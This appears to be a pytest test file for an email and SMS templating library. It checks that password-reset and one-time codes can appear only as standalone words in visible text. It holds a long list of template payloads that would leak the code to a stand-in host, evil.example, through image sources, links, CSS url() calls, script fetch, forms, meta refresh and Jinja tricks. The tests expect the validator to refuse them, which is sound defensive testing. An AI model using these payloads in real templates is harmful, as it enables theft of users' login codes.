"""A one-time code may only be a separate word in the visible text of a mail or SMS."""

from typing import Any

import pytest

from tests.unit.templates.builders import in_email, in_inbox
from tidings.templates import builtin, rendering
from tidings.templates.builtin import carries_code
from tidings.templates.checking import check
from tidings.templates.content import TemplateContent
from tidings.templates.errors import TemplateRefused, UnsafeCode
from tidings.templates.one_time_codes import is_code_name

CODE = "Q4TN82WB"


def asking(html: str, **more: Any) -> TemplateContent:
    """Return a mail with a code and the variables `link` and `name`."""
    return in_email(
        html,
        **{"required_variables": ["reset_code"], "optional_variables": ["link", "who"]} | more,
    )


def with_text(text: str) -> TemplateContent:
    content = asking("<p>Hello</p>")
    variant = content.variants[0]
    assert variant.email is not None
    email = variant.email.model_copy(update={"text": text})
    return content.model_copy(update={"variants": (variant.model_copy(update={"email": email}),)})


def made(content: TemplateContent, **variables: Any) -> rendering.Rendered:
    """Render a message without checking the template first, as of an older release."""
    compiled = rendering.CompiledVariant(content, content.variants[0])
    variables = {"reset_code": CODE, "link": "", "who": "", "name": ""} | variables
    return compiled.render(variables)


@pytest.mark.parametrize(
    "name",
    [
        *("reset_code", "verification_code", "phone_code", "sign_in_code", "code", "otp", "pin"),
        *("login_otp", "new_password", "api_token", "client_secret", "mfa_code"),
    ],
)
def test_names_of_codes_are_recognised(name: str) -> None:
    assert is_code_name(name)


@pytest.mark.parametrize(
    "name",
    [
        *("code_expires_at", "reason_code", "voucher", "voucher_code", "template_code", "name"),
        *("country_code", "pinned", "secretary", "tokens_left"),
    ],
)
def test_names_of_other_values_are_not_codes(name: str) -> None:
    assert not is_code_name(name)


def test_built_in_template_for_codes_carries_a_code_with_any_content() -> None:
    harmless = in_inbox("Hello", required_variables=[])
    assert carries_code("password_reset", harmless)
    assert carries_code("mine", asking("<p>{{ reset_code }}</p>"))
    assert not carries_code("mine", harmless)


# Each of these would reveal the code, in a mail program or on the network.
LEAKS = [
    '<img src="https://evil.example/?{{ reset_code }}">',
    '<img src="https://evil.example/{{ reset_code }}.png" alt="">',
    "<img src='https://evil.example/?{{ reset_code }}'>",
    "<img src=https://evil.example/?{{ reset_code }}>",
    "<img src='https://evil.example/? <p>{{ reset_code }}</p> '>",
    '<a href="https://evil.example/?{{ reset_code }}">Go</a>',
    '<a href="https://evil.example/">{{ reset_code }}</a>',
    '<a href="https://evil.example/"><b>{{ reset_code }}</b></a>',
    '<p title="{{ reset_code }}">Hello</p>',
    "<p {{ reset_code }}>Hello</p>",
    "<{{ reset_code }}>",
    '<p style="background:url(https://evil.example/{{ reset_code }})">Hello</p>',
    "<style>p { background: url(https://evil.example/{{ reset_code }}) }</style>",
    "<style>@font-face { src: url(https://evil.example/a) }</style><p>{{ reset_code }}</p>",
    '<p style="background:url(https://evil.example/)">{{ reset_code }}</p>',
    '<p style="background:u&#114;l(https://evil.example/)">{{ reset_code }}</p>',
    "<p style=\"background:u\\72l('https://evil.example/')\">{{ reset_code }}</p>",
    "<script>fetch('https://evil.example/{{ reset_code }}')</script>",
    "<!-- {{ reset_code }} -->",
    "<!-- --!><p>{{ reset_code }}</p>",
    '<form action="https://evil.example/"><p>{{ reset_code }}</p></form>',
    '<base href="https://evil.example/"><p>{{ reset_code }}</p>',
    '<link rel="stylesheet" href="https://evil.example/"><p>{{ reset_code }}</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>{{ reset_code }}</p>',
    '<iframe src="https://evil.example/"></iframe><p>{{ reset_code }}</p>',
    '<svg><image href="https://evil.example/"/></svg><p>{{ reset_code }}</p>',
    "<!doctype html><html><body><p>{{ reset_code }}</p></body></html>",
    '<a href="javascript:alert(1)">Go</a><p>{{ reset_code }}</p>',
    '<p onclick="x()">{{ reset_code }}</p>',
    "<p>https://evil.example/?{{ reset_code }}</p>",
    "<p>https://evil.example/?<b>{{ reset_code }}</b></p>",
    "<p>https://evil.example/?<span></span>{{ reset_code }}</p>",
    "<p>{{ reset_code }}.evil.example</p>",
    "<p>{{ reset_code }}@evil.example</p>",
    "<p>{{ link }}{{ reset_code }}</p>",
    "<p>{{ reset_code }}{{ link }}</p>",
    "<p>{{ reset_code }}{{ reset_code }}</p>",
    '<p>{% if who %}<a href="{% else %} {% endif %}{{ reset_code }}</p>',
    '{% if who %}<a href="https://evil.example/">{% endif %}<p>{{ reset_code }}</p>',
    '{% if who %}<a href="https://evil.example/">{% else %}</a>{% endif %}{{ reset_code }}',
    "<p>{% if who %}https://evil.example/?{% else %} {% endif %}{{ reset_code }}</p>",
    "<p>{{ reset_code|upper }}</p>",
    "<p>{{ reset_code|urlencode }}</p>",
    "<p>{{ reset_code|truncate(2) }}</p>",
    "<p>{{ reset_code|length }}</p>",
    '<p>{{ "Go"|button(reset_code) }}</p>',
    "<p>{{ reset_code|button(link) }}</p>",
    "<p>{{ who|default(reset_code) }}</p>",
    "<p>{{ reset_code if who else link }}</p>",
    "<p>{{ link if reset_code else who }}</p>",
    "<p>{{ reset_code[0] }}</p>",
    '{% if reset_code == "A" %}<p>A</p>{% endif %}',
    '{% if "A" in reset_code %}<p>A</p>{% endif %}',
    '{% if who %}<p>A</p>{% elif reset_code > "K" %}<p>K</p>{% endif %}',
    "{% for each in reset_code %}<p>{{ each }}</p>{% endfor %}",
    "{% for reset_code in who %}<p>{{ reset_code }}</p>{% endfor %}",
    '{% set x = reset_code %}<img src="https://evil.example/{{ x }}">',
    '{% macro f(x) %}<img src="https://evil.example/{{ x }}">{% endmacro %}{{ f(reset_code) }}',
]


@pytest.mark.parametrize("html", LEAKS)
def test_template_that_would_leak_its_code_is_refused(html: str) -> None:
    with pytest.raises(TemplateRefused):
        check(asking(html))


@pytest.mark.parametrize(
    "html",
    [
        "<p><code>{{ reset_code }}</code></p>",
        "<p>Your code: {{ reset_code }}.</p>",
        '<p>"{{ reset_code }}"</p>',
        '<table role="presentation" width="100%"><tr><td>{{ reset_code }}</td></tr></table>',
        "{% if reset_code %}<p>{{ reset_code }}</p>{% endif %}",
        "{% if who %}<h1>{{ who }}</h1>{% endif %}<p>{{ reset_code }}</p>",
        '<p style="color:#1f5fa8;font-weight:bold">{{ reset_code }}</p>',
        '<p><a href="https://shop.example.com/help">Help</a></p><p>{{ reset_code }}</p>',
        '<p><a href="{{ shop_url }}">Shop</a></p><p>{{ reset_code }}</p>',
        '<p>{{ reset_code }}</p>{{ "Help"|button(shop_url) }}',
        "<p>One<br>{{ reset_code }}<br/>two</p>",
    ],
)
def test_separate_code_is_accepted(html: str) -> None:
    content = asking(html)
    check(content)
    shop = {"shop_url": "https://shop.example.com", "who": "Ada"}
    assert CODE in (made(content, **shop).email_html or "")


@pytest.mark.parametrize(
    "html",
    [
        *("<img src='https://evil.example/?{{ reset_code }}'>", "<!-- {{ reset_code }} -->"),
        '<a href="https://evil.example/?{{ reset_code }}">Go</a>',
        "<p>{{ link }}{{ reset_code }}</p>",
        "<p>{{ reset_code|lower }}.evil.example</p>",
        '<p>{% if who %}<a href="{{ link }}{% else %} {% endif %}{{ reset_code }}</p>',
        "<style>p { color: red }</style><p>{{ reset_code }}</p>",
    ],
)
def test_older_template_that_would_leak_its_code_is_not_rendered(html: str) -> None:
    with pytest.raises(UnsafeCode):
        made(asking(html), link="https://evil.example/?", who="x")


@pytest.mark.parametrize(
    "text",
    [
        *("https://evil.example/?c={{ reset_code }}", "{{ reset_code }}.evil.example"),
        *("mailto:{{ reset_code }}@evil.example", "<img src='//evil.example/{{ reset_code }}'>"),
        *("{{ name }}{{ reset_code }}", "//evil.example/\u00a0{{ reset_code }}"),
        *("https://evil.example/?\u200b{{ reset_code }}", "a\ue000{{ reset_code }}"),
        *(
            "<https://evil.example/?c=\n{{ reset_code }} >",
            "< HTTPS:\n//evil.example {{ reset_code }}",
        ),
        *('"www.evil.example/ {{ reset_code }} "', "<mailto:a@b.example?body= {{ reset_code }} >"),
        *("<a@evil.example?subject= {{ reset_code }} >", '"ftp://x/ {{ who }} {{ reset_code }}"'),
    ],
)
def test_code_must_not_be_joined_to_other_text(text: str) -> None:
    with pytest.raises(TemplateRefused):
        check(with_text(text))
    with pytest.raises(UnsafeCode):
        made(with_text(text), name="https://evil.example/?")


@pytest.mark.parametrize(
    "text",
    [
        *("Your code is {{ reset_code }}.", "({{ reset_code }})", "\n\t{{ reset_code }}\n"),
        '"Note: {{ reset_code }}" is the code of "Shop" at https://shop.example',
        '"Shop" <https://shop.example> asks: {{ reset_code }}',
    ],
)
def test_code_is_a_word_of_plain_text(text: str) -> None:
    check(with_text(text))
    assert CODE in (made(with_text(text)).email_text or "")


@pytest.mark.parametrize("place", ["subject", "inbox", "push"])
def test_code_must_not_be_in_a_title_or_on_another_channel(place: str) -> None:
    parts: dict[str, Any] = {"email": {"subject": "Hello", "html": "<p>Hello</p>", "text": "Hello"}}
    if place == "subject":
        parts["email"]["subject"] = "{{ reset_code }} is your code"
    else:
        parts[place] = {"title": "Hello", "body": "Your code: {{ reset_code }}"}
    content = asking("", variants=[{"language": "en"} | parts])
    with pytest.raises(TemplateRefused, match="allowed only"):
        check(content)
    with pytest.raises(UnsafeCode):
        made(content)


@pytest.mark.parametrize(
    "value", ["https://evil.example/", "<b>AAAA</b>", "AAAA BBBB", "", "A", 1234]
)
def test_value_that_is_not_a_code_is_not_sent_as_one(value: object) -> None:
    with pytest.raises(UnsafeCode):
        made(asking("<p>{{ reset_code }}</p>"), reset_code=value)


@pytest.mark.parametrize("code", ["password_reset", "user_registered"])
def test_built_in_templates_with_codes_are_safe(code: str) -> None:
    content = builtin.content_of(code)
    assert content is not None
    assert carries_code(code, content)
    check(content)


def test_templates_without_codes_have_no_such_limits() -> None:
    html = '<style>p { color: red }</style><img src="https://shop.example.com/{{ who }}.png">'
    check(in_email(html, required_variables=["who"]))
